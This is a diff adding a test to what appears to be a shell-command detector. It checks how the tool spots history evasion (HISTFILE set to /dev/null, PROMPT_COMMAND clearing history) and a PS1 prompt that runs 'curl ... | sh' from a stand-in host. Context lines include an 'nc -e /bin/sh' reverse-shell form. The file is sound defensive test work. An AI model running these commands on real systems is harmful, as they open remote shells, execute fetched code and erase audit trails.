@@ -1103,3 +1103,12 @@ def test_double_quotes_and_parameter_forms_as_bash_reads_them():
 ])
 def test_character_escapes_in_other_languages_strings(text):
     assert find(text, "nc").args == ["-e", "/bin/sh", "h", "1"]
+
+
+def test_what_builtins_and_prompts_run_or_assign_is_shown():
+    """`read` and `printf -v` assignments appear as assignments; PROMPT_COMMAND is run, and a
+    prompt's substitutions are."""
+    assert find("printf -v HISTFILE %s /dev/null", "assign").args == ["HISTFILE=/dev/null"]
+    assert find("read -r HISTFILE <<< /dev/null", "assign").args == ["HISTFILE=/dev/null"]
+    assert find("export PROMPT_COMMAND='history -c'", "history").via == ("PROMPT_COMMAND",)
+    assert find("PS1='$(curl -s http://x/a | sh)\\$ '", "sh").via == ("PS1",)
